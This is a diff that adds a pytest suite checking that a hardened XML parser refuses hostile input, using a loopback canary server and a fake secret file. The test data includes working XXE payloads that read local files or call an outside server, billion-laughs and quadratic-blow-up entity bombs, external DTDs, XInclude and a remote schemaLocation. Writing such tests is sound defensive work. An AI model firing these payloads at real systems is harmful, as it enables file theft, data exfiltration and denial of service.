@@ -1,0 +1,167 @@
+"""Hostile XML against the one hardened entry point.
+
+A loopback canary HTTP server stands where an attacker's server would be: it must receive
+nothing. A local secret file stands for /etc/passwd: its content must appear nowhere.
+"""
+
+from __future__ import annotations
+
+import contextlib
+import http.server
+import threading
+from collections.abc import Iterator
+from pathlib import Path
+
+import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
+
+from adapters.xmlsafe import XmlLimits, parse_xml
+from hub.errors import TranslationError
+
+LIMITS = XmlLimits()
+SECRET = "TOP-SECRET-CANARY-7f3a"
+
+
+class Canary:
+    def __init__(self) -> None:
+        self.requests: list[str] = []
+        canary = self
+
+        class Handler(http.server.BaseHTTPRequestHandler):
+            def do_GET(self) -> None:
+                canary.requests.append(self.path)
+                self.send_response(200)
+                self.end_headers()
+                self.wfile.write(b'<!ENTITY leak "fetched">')
+
+            def log_message(self, *args: object) -> None:
+                pass
+
+        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
+        self.url = f"http://127.0.0.1:{self.server.server_address[1]}"
+        self.thread = threading.Thread(target=self.server.serve_forever, daemon=True)
+        self.thread.start()
+
+    def close(self) -> None:
+        self.server.shutdown()
+        self.server.server_close()
+
+
+@pytest.fixture
+def canary() -> Iterator[Canary]:
+    c = Canary()
+    yield c
+    c.close()
+
+
+@pytest.fixture
+def secret_file(tmp_path: Path) -> Path:
+    path = tmp_path / "passwd"
+    path.write_text(SECRET)
+    return path
+
+
+def hostile_documents(secret: Path, url: str) -> list[tuple[str, bytes, str]]:
+    laughs = '<!ENTITY lol0 "lol">' + "".join(
+        f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10}">' for i in range(1, 10)
+    )
+    big_entity = "A" * 50_000
+    return [
+        (
+            "XXE to a local file",
+            f'<!DOCTYPE d [<!ENTITY x SYSTEM "file://{secret}">]><d>&x;</d>'.encode(),
+            "forbidden-doctype",
+        ),
+        (
+            "XXE to a loopback server",
+            f'<!DOCTYPE d [<!ENTITY x SYSTEM "{url}/xxe">]><d>&x;</d>'.encode(),
+            "forbidden-doctype",
+        ),
+        (
+            "parameter entity to a loopback server",
+            f'<!DOCTYPE d [<!ENTITY % p SYSTEM "{url}/param"> %p;]><d>&leak;</d>'.encode(),
+            "forbidden-doctype",
+        ),
+        ("billion laughs", f"<!DOCTYPE d [{laughs}]><d>&lol9;</d>".encode(), "forbidden-doctype"),
+        (
+            "quadratic blow-up",
+            f'<!DOCTYPE d [<!ENTITY a "{big_entity}">]><d>{"&a;" * 2000}</d>'.encode(),
+            "forbidden-doctype",
+        ),
+        ("external DTD", f'<!DOCTYPE d SYSTEM "{url}/ext.dtd"><d/>'.encode(), "forbidden-doctype"),
+        (
+            "XInclude of a local file",
+            (
+                '<d xmlns:xi="http://www.w3.org/2001/XInclude">'
+                f'<xi:include href="{secret}" parse="text"/></d>'
+            ).encode(),
+            "forbidden-xinclude",
+        ),
+        (
+            "xsi:schemaLocation pointing elsewhere",
+            (
+                '<d xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" '
+                f'xsi:schemaLocation="urn:x {url}/evil.xsd"/>'
+            ).encode(),
+            "forbidden-schema-location",
+        ),
+        ("deep nesting", b"<d>" + b"<e>" * 100 + b"</e>" * 100 + b"</d>", "limit-exceeded"),
+        ("very deep nesting", b"<d>" + b"<e>" * 5000 + b"</e>" * 5000 + b"</d>", "limit-exceeded"),
+        (
+            "oversized document",
+            b"<d>" + b"<e>x</e>" * (LIMITS.max_bytes // 8) + b"</d>",
+            "limit-exceeded",
+        ),
+        ("not well-formed", b"<d><e></d>", "not-well-formed"),
+        (
+            "trailing HTTP header after the root",
+            b"<d/>\nContent-Type: text/xml\n",
+            "not-well-formed",
+        ),
+    ]
+
+
+def test_hostile_documents_are_refused_with_their_reason(canary: Canary, secret_file: Path) -> None:
+    for case, data, reason in hostile_documents(secret_file, canary.url):
+        with pytest.raises(TranslationError) as info:
+            parse_xml(data, LIMITS)
+        assert info.value.reason == reason, case
+        assert SECRET not in str(info.value), case
+    assert canary.requests == []
+
+
+def test_too_many_elements() -> None:
+    data = b"<d>" + b"<e/>" * 101 + b"</d>"
+    with pytest.raises(TranslationError) as info:
+        parse_xml(data, XmlLimits(max_elements=100))
+    assert info.value.reason == "limit-exceeded"
+
+
+def test_errors_carry_line_and_column() -> None:
+    with pytest.raises(TranslationError) as info:
+        parse_xml(b"<d>\n  <e>\n</d>", LIMITS)
+    assert info.value.line == 3 and info.value.column is not None
+
+
+def test_relative_schema_location_is_kept_as_data() -> None:
+    root = parse_xml(
+        b'<d xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" '
+        b'xsi:schemaLocation="urn:wco:datamodel:WCO:DEC-DMS:2 ../WCO_DEC_DMS.xsd"/>',
+        LIMITS,
+    )
+    assert root.get("{http://www.w3.org/2001/XMLSchema-instance}schemaLocation").endswith(".xsd")
+
+
+@settings(max_examples=300, deadline=None)
+@given(st.binary(max_size=300))
+def test_arbitrary_bytes_parse_or_raise_translation_error(data: bytes) -> None:
+    with contextlib.suppress(TranslationError):
+        parse_xml(data, LIMITS)
+
+
+@settings(max_examples=200, deadline=None)
+@given(st.text(alphabet="<>/=\"'&;!-[]?dexmlns: aAE", max_size=120))
+def test_xml_like_text_parses_or_raises_translation_error(text: str) -> None:
+    with contextlib.suppress(TranslationError):
+        parse_xml(text.encode(), LIMITS)
